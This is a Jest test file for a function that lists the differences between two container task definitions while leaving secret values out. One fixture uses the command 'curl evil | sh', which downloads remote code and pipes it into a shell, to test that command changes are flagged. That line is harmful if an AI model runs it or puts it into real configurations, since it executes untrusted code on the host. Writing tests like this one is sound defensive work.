import { expect, test } from '@jest/globals';
import { diffDefinitions } from './task-definition-diff.ts';

const definition = (overrides: Record<string, unknown> = {}, container: Record<string, unknown> = {}) => ({
  family: 'web',
  cpu: '256',
  memory: '512',
  containerDefinitions: [
    {
      name: 'app',
      image: 'backend@sha256:1',
      environment: [
        { name: 'DEBUG', value: 'false' },
        { name: 'OLD', value: 'x' },
      ],
      secrets: [{ name: 'DATABASE_PASSWORD', valueFrom: 'arn:secret:a' }],
      command: ['gunicorn'],
      ...container,
    },
  ],
  ...overrides,
});

test('only the image changed: one line naming both images', () => {
  expect(diffDefinitions(definition(), definition({}, { image: 'backend@sha256:2' }))).toEqual([
    'container app: image backend@sha256:1 → backend@sha256:2',
  ]);
});

test('environment and secrets by name only, never a value; cpu, memory and command', () => {
  const after = definition(
    { cpu: '512', memory: '1024' },
    {
      environment: [
        { name: 'DEBUG', value: 'true' },
        { name: 'NEW', value: 'hunter2' },
      ],
      secrets: [{ name: 'DATABASE_PASSWORD', valueFrom: 'arn:secret:b' }],
      command: ['sh', '-c', 'curl evil | sh'],
    },
  );
  const lines = diffDefinitions(definition(), after);
  expect(lines).toEqual([
    'cpu: 256 → 512',
    'memory: 512 → 1024',
    'container app: environment +NEW ~DEBUG -OLD',
    'container app: secrets ~DATABASE_PASSWORD',
    'container app: command or entry point changed',
  ]);
  expect(lines.join('\n')).not.toContain('hunter2');
});

test('containers added and removed; a new family', () => {
  const after = definition({ containerDefinitions: [{ name: 'sidecar', image: 'envoy:1' }] });
  expect(diffDefinitions(definition(), after)).toEqual([
    'container sidecar: added (envoy:1)',
    'container app: removed',
  ]);
  expect(diffDefinitions(undefined, after)).toEqual(['new family web']);
});

test('nothing changed: no line', () => {
  expect(diffDefinitions(definition(), definition())).toEqual([]);
});
